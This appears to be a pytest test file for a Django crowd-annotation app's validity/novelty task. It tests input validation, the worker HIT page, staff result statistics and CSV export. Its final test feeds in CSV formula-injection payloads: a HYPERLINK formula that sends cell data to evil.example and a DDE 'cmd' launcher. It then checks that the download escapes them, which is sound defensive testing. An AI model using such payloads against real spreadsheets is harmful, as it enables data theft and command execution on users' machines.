"""validity_novelty through the JSON API (bad input -> 400, nothing written), the HIT page (no-JS form, no reference
leak) and the staff results page with its CSV download."""

import csv
import io

import pytest
from django.core.management import call_command
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from annotation import services
from annotation.models import Assignment, Response, Worker
from annotation.task_types.validity_novelty import results

from .helpers import ROWS, csv_text, write

pytestmark = pytest.mark.django_db


@pytest.fixture
def project(tmp_path):
    p = results.get_project("vn", create=True, items_per_hit=2, status="active")
    results.import_file(p, write(tmp_path, csv_text(ROWS[1:5])))
    return p


def client_for(user):
    c = APIClient()
    c.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.get_or_create(user=user)[0].key}")
    return c


@pytest.fixture
def alice(django_user_model):
    return django_user_model.objects.create_user("alice", password="pw-alice-123")


def reserve(c, slug="vn"):
    r = c.post(f"/api/projects/{slug}/next/", format="json")
    assert r.status_code == 200, r.content
    return r.json()


GOOD = {"validity": "yes", "novelty": "dont_know"}


@pytest.mark.parametrize(
    "bad, field, reason",
    [
        ({"validity": "maybe", "novelty": "no"}, "validity", "not a choice"),
        ({"validity": 5, "novelty": "no"}, "validity", "not a choice"),  # a rating out of range
        ({"validity": "yes", "novelty": -1}, "novelty", "not a choice"),
        ({"validity": "yes"}, "novelty", "answer novelty"),  # a missing dimension
        ({"novelty": "yes"}, "validity", "answer validity"),
        ({"validity": "yes", "novelty": ""}, "novelty", "answer novelty"),
        ({"validity": "yes", "novelty": "no", "confidence": "high"}, "confidence", "unknown field"),
        ("yes", "validity", "expected an object"),
    ],
)
def test_bad_responses_get_400_and_write_nothing(project, alice, bad, field, reason):
    c = client_for(alice)
    body = reserve(c)
    first, second = (str(i["id"]) for i in body["items"])
    r = c.post(
        f"/api/assignments/{body['assignment']}/submit/", {"responses": {first: GOOD, second: bad}}, format="json"
    )
    assert r.status_code == 400, r.content
    errors = r.json()["errors"]
    key = f"responses.{second}.{field}"
    assert key in errors and reason in errors[key], errors
    assert Response.objects.count() == 0
    assert Assignment.objects.get(pk=body["assignment"]).status == Assignment.Status.RESERVED


def test_unknown_item_gets_400_and_writes_nothing(project, alice):
    c = client_for(alice)
    body = reserve(c)
    responses = {str(i["id"]): GOOD for i in body["items"]}
    responses["999999"] = GOOD
    r = c.post(f"/api/assignments/{body['assignment']}/submit/", {"responses": responses}, format="json")
    assert r.status_code == 400
    assert "unknown item" in r.json()["errors"]["responses.999999"]
    assert Response.objects.count() == 0
    missing = {str(body["items"][0]["id"]): GOOD}
    r = c.post(f"/api/assignments/{body['assignment']}/submit/", {"responses": missing}, format="json")
    assert r.status_code == 400 and Response.objects.count() == 0


def test_good_submission_is_stored(project, alice):
    c = client_for(alice)
    body = reserve(c)
    responses = {str(i["id"]): {"validity": "no", "novelty": "yes"} for i in body["items"]}
    r = c.post(f"/api/assignments/{body['assignment']}/submit/", {"responses": responses}, format="json")
    assert r.status_code == 200, r.content
    assert (
        sorted(Response.objects.values_list("data", flat=True), key=str) == [{"validity": "no", "novelty": "yes"}] * 2
    )


def test_hit_page_shows_texts_and_questions_but_no_reference(project, client, alice):
    client.force_login(alice)
    r = client.get("/work/vn/")
    html = r.content.decode()
    assert r.status_code == 200
    assert "Twin towers are hardly a symbol of peace" in html and "Pentagon, hardly a symbol of peace" in html
    assert "Twin Towers reconstruction" in html  # the topic
    for name in ("validity", "novelty"):
        assert html.count(f'-{name}" value="dont_know"') == 2
    assert "very confident" not in html and "a &quot;quoted&quot; note" not in html and "quoted" not in html
    assert "task_types/validity_novelty/hit.js" in html
    assert "<kbd>V</kbd> or <kbd>N</kbd>" in html  # the keys in the instructions panel


def test_no_js_form_post(project, client, alice):
    client.force_login(alice)
    client.get("/work/vn/")
    worker = Worker.objects.get(user=alice)
    a = Assignment.objects.get(worker=worker)
    items = services.assignment_items(a)
    data = {
        "assignment": a.pk,
        "feedback": "",
        f"item-{items[0].pk}-validity": "yes",
        f"item-{items[0].pk}-novelty": "no",
        f"item-{items[1].pk}-validity": "dont_know",
    }
    r = client.post("/work/vn/", data)
    assert r.status_code == 400 and "answer novelty" in r.content.decode()
    assert Response.objects.count() == 0
    assert 'value="yes" checked' in r.content.decode()  # the answers given so far are kept
    data[f"item-{items[1].pk}-novelty"] = "yes"
    r = client.post("/work/vn/", data)
    assert r.status_code == 302
    stored = {x.item_id: x.data for x in Response.objects.all()}
    assert stored == {
        items[0].pk: {"validity": "yes", "novelty": "no"},
        items[1].pk: {"validity": "dont_know", "novelty": "yes"},
    }


def test_results_page_permissions_and_figures(project, client, alice, staff_user):
    assert client.get("/projects/vn/valnov/").status_code == 302  # anonymous -> login
    client.force_login(alice)
    assert client.get("/projects/vn/valnov/").status_code == 403
    assert client.get("/projects/vn/valnov/export.csv").status_code == 403
    Y, N, D = "yes", "no", "dont_know"
    # three workers on both HITs; item answers in assignment order
    plan = [[(Y, N), (Y, Y), (N, N), (D, D)], [(Y, N), (N, Y), (N, N), (Y, D)], [(Y, N), (D, Y), (N, Y), (D, D)]]
    for k, answers in enumerate(plan):
        w = Worker.objects.create(external_id=f"w{k}", source="prolific")
        for _h in range(2):
            a = services.reserve_next_assignment(project, w)
            items = services.assignment_items(a)
            services.submit_assignment(
                a,
                w,
                {str(i.pk): {"validity": answers[i.position][0], "novelty": answers[i.position][1]} for i in items},
            )
    res = results.project_results(project)
    val = {d["label"]: d["count"] for d in res["crowd"]["validity"]["labels"]}
    nov = {d["label"]: d["count"] for d in res["crowd"]["novelty"]["labels"]}
    # validity: YYY=1, YND=0 (tie), NNN=-1, DYD=0 (dk majority); novelty: NNN=-1, YYY=1, NNY=-1, DDD=0
    assert val == {1: 1, -1: 1, 0: 2} and nov == {1: 1, -1: 2, 0: 1}
    weights = {w["weight"]: w["count"] for w in res["weights"]["crowd"]}
    # item 0: vc+vc=5; item 1: def+vc=3; item 2: vc+maj=3.25; item 3: def+def=1
    assert weights[5.0] == 1 and weights[3.0] == 1 and weights[3.25] == 1 and weights[1.0] == 1
    assert res["agreement"]["validity"]["n_units"] == 4 and res["agreement"]["validity"]["alpha"] is not None
    assert res["agreement"]["novelty"]["fleiss_kappa"] is not None
    assert res["crowd_vs_reference"]["validity"]["n"] == 4

    client.force_login(staff_user)
    r = client.get("/projects/vn/valnov/")
    html = r.content.decode()
    assert r.status_code == 200
    for part in (
        'id="valnov-agreement"',
        "Krippendorff",
        "Fleiss",
        'id="valnov-weights"',
        'id="valnov-dist-novelty"',
        "/projects/vn/valnov/export.csv",
    ):
        assert part in html
    r = client.get("/projects/vn/valnov/export.csv?weights=1")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert [row["Validity"] for row in rows] == ["1", "0", "-1", "0"]
    assert [row["Novelty-Confidence"] for row in rows] == ["very confident", "very confident", "majority", "defeasible"]
    assert [row["Instance-Weight"] for row in rows] == ["5.0", "3.0", "3.25", "1.0"]
    assert client.get("/projects/vn/valnov/export.csv?labels=nope").status_code == 400


def test_results_page_of_another_task_type_is_404(client, staff_user):
    services.create_project(name="Other", slug="other", task_type="sentence_label")
    client.force_login(staff_user)
    response = client.get("/projects/other/valnov/")
    assert response.status_code == 404
    assert (
        "Project &#x27;other&#x27; is a &#x27;sentence_label&#x27; project, not &#x27;validity_novelty&#x27;."
        in response.content.decode()
    )


def test_the_download_writes_formula_cells_as_text_and_the_cli_export_stays_exact(tmp_path, client, staff_user):
    """A premise, conclusion, topic or extra column that starts like a formula (an importer's or a worker's text) is
    written with a leading ' in the staff page's download, so a spreadsheet shows it instead of running it; labels
    (-1 included) stay numbers; ``manage.py valnov export`` writes the shared-task file exactly."""
    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
    row = f'"{evil[3]}","{evil[0].replace(chr(34), chr(34) * 2)}",{evil[1]},-1,very confident,1,majority,no,{evil[2]}'
    p = results.get_project("formulas", create=True, items_per_hit=1, status="active")
    results.import_file(p, write(tmp_path, csv_text([row])))
    client.force_login(staff_user)
    r = client.get("/projects/formulas/valnov/export.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    [got] = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert (got["topic"], got["Premise"], got["Conclusion"], got["note"]) == tuple(
        "'" + e for e in (evil[3], evil[0], evil[1], evil[2])
    )
    assert (got["Validity"], got["Novelty"], got["Validity-Confidence"]) == ("-1", "1", "very confident")
    out = tmp_path / "exact.csv"
    call_command("valnov", "export", "--project", "formulas", "--out", str(out))
    [exact] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert (exact["topic"], exact["Premise"], exact["Conclusion"], exact["note"]) == (
        evil[3],
        evil[0],
        evil[1],
        evil[2],
    )
